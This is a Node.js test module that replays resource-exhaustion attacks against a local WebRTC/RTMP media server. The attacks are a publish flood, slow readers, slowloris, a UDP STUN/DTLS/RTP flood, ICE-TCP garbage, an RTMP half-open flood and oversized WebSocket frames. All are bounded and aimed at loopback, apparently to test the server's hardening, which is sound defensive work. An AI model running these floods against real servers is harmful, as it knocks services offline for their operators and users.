'use strict';
// The attacks of issue 12, run from Node against a server on 127.0.0.1. Each one runs for
// `durationMs`, is bounded in sockets, packets and reconnects, spreads itself over attacker
// addresses 127.0.<group>.<n> (the server counts its caps per address; the victims use
// 127.0.0.1 and the health checks 127.0.0.2), and closes everything it opened before it returns
// a summary of what it did and what the server answered.

const crypto = require('node:crypto');
const dgram = require('node:dgram');
const net = require('node:net');
const h = require('../../lib/harness');
const rawws = require('./rawws');

/** Attacker address `i` of group `group` (127.0.group.1 ...). */
function attacker(group, i) {
  return `127.0.${group}.${1 + (i % 250)}`;
}

function hostPort(addr) {
  const [host, port] = addr.split(':');
  return { host, port: Number(port) };
}

/** Runs `body(stillRunning)` with a deadline; `stillRunning()` turns false at the deadline. */
async function until(durationMs, body) {
  const end = Date.now() + durationMs;
  return body(() => Date.now() < end);
}

/**
 * Keeps `count` TCP sockets open (reopening the ones the server closes, at most `maxOpens` in
 * all) from the addresses `from(i)`; `onOpen(socket, i)` starts each one's misbehaviour.
 */
async function holdSockets({ addr, count, from, maxOpens, durationMs, onOpen }) {
  const { host, port } = hostPort(addr);
  const open = new Set();
  let opens = 0;
  let closedByServer = 0;
  let errors = 0;
  let stopping = false;
  const openOne = (i) => {
    if (stopping || opens >= maxOpens) return;
    opens++;
    const s = net.connect({ host, port, localAddress: from(i) });
    open.add(s);
    s.on('connect', () => onOpen(s, i));
    s.on('error', () => { errors++; });
    s.on('data', () => {});
    s.on('close', () => {
      open.delete(s);
      if (stopping) return;
      closedByServer++;
      setTimeout(() => openOne(i), 50); // reopen, as an attacker would
    });
  };
  for (let i = 0; i < count; i++) {
    openOne(i);
    if (i % 50 === 49) await h.sleep(20);
  }
  const peakOpen = await until(durationMs, async (running) => {
    let peak = 0;
    while (running()) {
      peak = Math.max(peak, open.size);
      await h.sleep(200);
    }
    return peak;
  });
  stopping = true;
  for (const s of open) s.destroy();
  return { opens, peakOpen, closedByServer, errors };
}

/** `count` signaling sessions from `from(i)`; those the server refuses are counted, not thrown. */
async function sessions(server, count, from, login) {
  const { host, port } = hostPort(server.httpAddr);
  const out = [];
  let refused = 0;
  for (let i = 0; i < count; i += 25) {
    const batch = await Promise.allSettled(Array.from({ length: Math.min(25, count - i) }, async (_, k) => {
      const ws = await rawws.connect({ host, port, localAddress: from(i + k) });
      ws.sendJson({ message: 'connection', data: [{ appKey: 'roomApp', mediaProviders: ['WebRTC'], custom: { login: login(i + k) } }] });
      return ws;
    }));
    for (const r of batch) {
      if (r.status === 'fulfilled') out.push(r.value);
      else refused++;
    }
  }
  return { sockets: out, refused };
}

/**
 * Finding 1: publish flood. Sessions from 20 addresses publish a real WebRTC offer over and
 * over (a new peer each time) and unpublish it, as fast as their command rate allows.
 */
async function publishFlood(server, { sdp, durationMs, socketsPerAddress = 10, addresses = 20, publishesPerSec = 4 }) {
  const { sockets, refused } = await sessions(server, socketsPerAddress * addresses,
    (i) => attacker(11, i % addresses), (i) => `flood${i}`);
  let published = 0;
  const answers = { failedAdmission: 0, failedOther: 0, other: 0 };
  for (const ws of sockets) {
    ws.onText = (text) => {
      if (!text.includes('notifyStreamStatusEvent')) return;
      if (/"status":"FAILED"/.test(text)) {
        if (/your address|Server busy|server busy|Too many/.test(text)) answers.failedAdmission++;
        else answers.failedOther++;
      } else answers.other++;
    };
  }
  await until(durationMs, async (running) => {
    let round = 0;
    while (running()) {
      for (const [i, ws] of sockets.entries()) {
        const id = `f${i}-${round}`;
        ws.sendJson({ message: 'publishStream', data: [{ mediaSessionId: id, name: id, published: true, hasVideo: true, hasAudio: true, status: 'PENDING', record: false, mediaProvider: 'WebRTC', sdp }] });
        if (round > 0) ws.sendJson({ message: 'unPublishStream', data: [{ mediaSessionId: `f${i}-${round - 1}`, name: `f${i}-${round - 1}` }] });
        published++;
      }
      round++;
      await h.sleep(1000 / publishesPerSec);
    }
  });
  for (const ws of sockets) ws.destroy();
  return { sessions: sockets.length, sessionsRefused: refused, published, answers };
}

/**
 * Finding 2: clients that stop reading. They join a room and stop reading; senders fill
 * their queues with 60 KB chat messages (the server's drops show in its counter: a paused
 * socket does not even see its close).
 */
async function slowReaders(server, { durationMs, readers = 8, senders = 6 }) {
  const room = h.uniqueRoom('abuse-slow');
  const { host, port } = hostPort(server.httpAddr);
  let readerNo = 0;
  const live = new Set();
  const newReader = async () => {
    const n = readerNo++;
    const ws = await rawws.connect({ host, port, localAddress: attacker(12, n % 50) });
    ws.login = `reader${n}`;
    ws.sendJson({ message: 'connection', data: [{ appKey: 'roomApp', mediaProviders: ['WebRTC'], custom: { login: ws.login } }] });
    ws.sendJson({ message: 'sendData', data: [{ operationId: `j${n}`, payload: { command: 'join', options: { name: room, record: false } } }] });
    await h.sleep(200);
    ws.pause(); // from here on it reads nothing
    live.add(ws);
  };
  for (let i = 0; i < readers; i++) await newReader();
  const { sockets: talkers } = await sessions(server, senders, (i) => attacker(13, i), (i) => `talker${i}`);
  talkers.forEach((ws, i) => ws.sendJson({ message: 'sendData', data: [{ operationId: `tj${i}`, payload: { command: 'join', options: { name: room, record: false } } }] }));
  await h.sleep(300);
  const text = 'x'.repeat(60 * 1024);
  let sent = 0;
  const targets = [...live];
  await until(durationMs, async (running) => {
    let op = 0;
    while (running()) {
      for (const ws of talkers) {
        for (let k = 0; k < 10 && targets.length; k++) {
          const to = targets[(op + k) % targets.length].login;
          ws.sendJson({ message: 'sendData', data: [{ operationId: `m${op++}`, payload: { command: 'sendMessage', options: { roomConfig: { name: room }, to, text } } }] });
          sent++;
        }
      }
      await h.sleep(250);
    }
  });
  for (const ws of [...live, ...talkers]) ws.destroy();
  return { readers: readerNo, chatSent: sent, chatBytesMiB: Math.round((sent * text.length) / 1048576) };
}

/**
 * Finding 4: slowloris and descriptor exhaustion: 1,200 HTTP sockets (over the default 1,024
 * descriptors) from 6 addresses, each trickling one header byte a second, reopened when closed.
 */
async function slowloris(server, { durationMs, count = 1200, addresses = 6 }) {
  const timers = new Set();
  const result = await holdSockets({
    addr: server.httpAddr,
    count,
    from: (i) => attacker(14, i % addresses),
    maxOpens: count * 4,
    durationMs,
    onOpen: (s) => {
      s.write('GET / HTTP/1.1\r\nHost: x\r\n');
      const t = setInterval(() => { if (!s.destroyed) s.write('X'); }, 1000);
      timers.add(t);
      s.on('close', () => { clearInterval(t); timers.delete(t); });
    },
  });
  for (const t of timers) clearInterval(t);
  return result;
}

/** One STUN binding request with a random USERNAME (an unknown ufrag pair). */
function stunRequest() {
  const user = Buffer.from(`${crypto.randomBytes(4).toString('hex')}:${crypto.randomBytes(4).toString('hex')}`);
  const attr = Buffer.alloc(4 + user.length + ((4 - (user.length % 4)) % 4));
  attr.writeUInt16BE(0x0006, 0);
  attr.writeUInt16BE(user.length, 2);
  user.copy(attr, 4);
  const head = Buffer.alloc(20);
  head.writeUInt16BE(0x0001, 0);
  head.writeUInt16BE(attr.length, 2);
  head.writeUInt32BE(0x2112a442, 4);
  crypto.randomBytes(12).copy(head, 8);
  return Buffer.concat([head, attr]);
}

/** A DTLS 1.2 handshake record header with a garbage body. */
function dtlsGarbage() {
  const b = crypto.randomBytes(120);
  b[0] = 22; b[1] = 0xfe; b[2] = 0xfd; b.writeUInt16BE(107, 11);
  return b;
}

/** An RTP-looking packet (version 2, random SSRC). */
function rtpGarbage() {
  const b = crypto.randomBytes(200);
  b[0] = 0x80; b[1] = 96;
  return b;
}

/**
 * Finding "UDP garbage / STUN flood" (probed in the issue at 10k packets/s): random bytes,
 * STUN binding requests with unknown ufrags, DTLS and RTP lookalikes at the media port.
 */
async function udpFlood(server, { durationMs, packetsPerSec = 8000, sources = 4 }) {
  const { host, port } = hostPort(server.mediaAddr);
  const sockets = await Promise.all(Array.from({ length: sources }, (_, i) => new Promise((resolve, reject) => {
    const s = dgram.createSocket('udp4');
    s.once('error', reject);
    s.bind(0, attacker(15, i), () => resolve(s));
  })));
  const makers = [() => crypto.randomBytes(1 + crypto.randomInt(1200)), stunRequest, dtlsGarbage, rtpGarbage];
  let sent = 0;
  const maxPackets = Math.ceil((packetsPerSec * durationMs) / 1000);
  await until(durationMs, async (running) => {
    const tickMs = 20;
    const perTick = Math.ceil((packetsPerSec * tickMs) / 1000);
    while (running() && sent < maxPackets) {
      const t0 = Date.now();
      for (let k = 0; k < perTick; k++) {
        sockets[k % sources].send(makers[k % makers.length](), port, host);
        sent++;
      }
      await h.sleep(Math.max(0, tickMs - (Date.now() - t0)));
    }
  });
  await h.sleep(100);
  for (const s of sockets) s.close();
  return { sent, ratePerSec: Math.round(sent / (durationMs / 1000)) };
}

/**
 * Garbage on the ICE-TCP port: 200 connections from 4 addresses send a whole RFC 4571 frame of
 * random bytes (not STUN: the server closes the connection), a frame that announces 64 KB and
 * never delivers them, or nothing at all (both closed after the handshake limit, 10 s, longer
 * than the attack); reopened when closed. The random frame has its length prefix written: with
 * 4 KB of random bytes behind a random prefix the first frame was complete only when the
 * prefix happened to be under 4 KB (1 in 16), and a run with no frame complete saw no close.
 */
async function iceTcpGarbage(server, { durationMs, count = 200, addresses = 4 }) {
  if (!server.addrs.media_tcp) throw new Error(`no media_tcp= in the ready line: ${JSON.stringify(server.addrs)}`);
  return holdSockets({
    addr: server.addrs.media_tcp,
    count,
    from: (i) => attacker(16, i % addresses),
    maxOpens: count * 10,
    durationMs,
    onOpen: (s, i) => {
      if (i % 3 === 0) s.write(Buffer.concat([Buffer.from([0x0f, 0xfe]), crypto.randomBytes(4094)]));
      else if (i % 3 === 1) s.write(Buffer.concat([Buffer.from([0xff, 0xff]), crypto.randomBytes(100)]));
      // i % 3 === 2: silent
    },
  });
}

/**
 * Finding 5: RTMP half-open flood: 160 sockets from 20 addresses send C0 and half of C1 and
 * wait, reopened when the server closes them. Meanwhile a legitimate client from 127.0.0.2
 * must still complete handshakes (S0+S1+S2, 3,073 bytes).
 */
async function rtmpHalfOpen(server, { durationMs, perAddress = 8, addresses = 20 }) {
  if (!server.rtmpAddr) throw new Error('no rtmp= in the ready line');
  const handshakes = { ok: 0, failed: 0, worstMs: 0 };
  let stop = false;
  const legit = (async () => {
    while (!stop) {
      const t0 = Date.now();
      const ok = await rtmpHandshake(server.rtmpAddr, '127.0.0.2', 3000);
      if (ok) handshakes.ok++;
      else handshakes.failed++;
      handshakes.worstMs = Math.max(handshakes.worstMs, Date.now() - t0);
      await h.sleep(500);
    }
  })();
  const flood = await holdSockets({
    addr: server.rtmpAddr,
    count: perAddress * addresses,
    from: (i) => attacker(17, i % addresses),
    maxOpens: perAddress * addresses * 10,
    durationMs,
    onOpen: (s) => s.write(Buffer.concat([Buffer.from([3]), crypto.randomBytes(700)])),
  });
  stop = true;
  await legit;
  return { ...flood, legitHandshakes: handshakes };
}

/** An RTMP handshake's first half: C0+C1 sent, S0+S1+S2 (3,073 bytes) received in time. */
function rtmpHandshake(addr, from, timeoutMs) {
  const { host, port } = hostPort(addr);
  return new Promise((resolve) => {
    const s = net.connect({ host, port, localAddress: from });
    let got = 0;
    const done = (ok) => { clearTimeout(timer); s.destroy(); resolve(ok); };
    const timer = setTimeout(() => done(false), timeoutMs);
    s.on('connect', () => s.write(Buffer.concat([Buffer.from([3]), Buffer.alloc(1536)])));
    s.on('data', (d) => { got += d.length; if (got >= 3073) done(true); });
    s.on('error', () => done(false));
    s.on('close', () => done(got >= 3073));
  });
}

/**
 * Findings 6 and 7: big and fragmented frames. From 4 addresses, over and over: an 877 KB
 * `connection` message, a 2 MiB text frame (over max_frame_bytes), and a 900 KB message in
 * fragments that never finishes; at most 40 such sockets at once.
 */
async function bigFrames(server, { durationMs, atOnce = 40, addresses = 4 }) {
  const { host, port } = hostPort(server.httpAddr);
  const hugeConnection = JSON.stringify({ message: 'connection', data: [{ appKey: 'roomApp', custom: { login: 'big', pad: 'p'.repeat(877 * 1024) } }] });
  const twoMiB = Buffer.alloc(2 * 1048576, 0x61);
  const fragment = Buffer.alloc(64 * 1024, 0x62);
  const open = new Set();
  const counts = { connections: 0, hugeConnection: 0, hugeFrame: 0, unfinished: 0, refused: 0, closedByServer: 0 };
  let n = 0;
  const one = async () => {
    const kind = n++ % 3;
    let ws;
    try {
      ws = await rawws.connect({ host, port, localAddress: attacker(18, n % addresses) });
    } catch (_) {
      counts.refused++;
      return;
    }
    counts.connections++;
    open.add(ws);
    ws.socket.on('close', () => { if (open.delete(ws)) counts.closedByServer++; });
    if (kind === 0) {
      ws.sendFrame(rawws.OP.TEXT, hugeConnection);
      counts.hugeConnection++;
    } else if (kind === 1) {
      ws.sendFrame(rawws.OP.TEXT, twoMiB);
      counts.hugeFrame++;
    } else {
      ws.sendJson({ message: 'connection', data: [{ appKey: 'roomApp', custom: { login: `frag${n}` } }] });
      ws.sendFrame(rawws.OP.TEXT, fragment, false);
      for (let k = 1; k < 14; k++) ws.sendFrame(rawws.OP.CONT, fragment, false);
      counts.unfinished++; // 14 x 64 KB = 896 KB, no final fragment
    }
  };
  await until(durationMs, async (running) => {
    while (running() && n < 2000) {
      while (open.size < atOnce && n < 2000 && running()) await one();
      await h.sleep(100);
    }
  });
  for (const ws of open) ws.destroy();
  open.clear();
  return counts;
}

module.exports = { publishFlood, slowReaders, slowloris, udpFlood, iceTcpGarbage, rtmpHalfOpen, bigFrames };
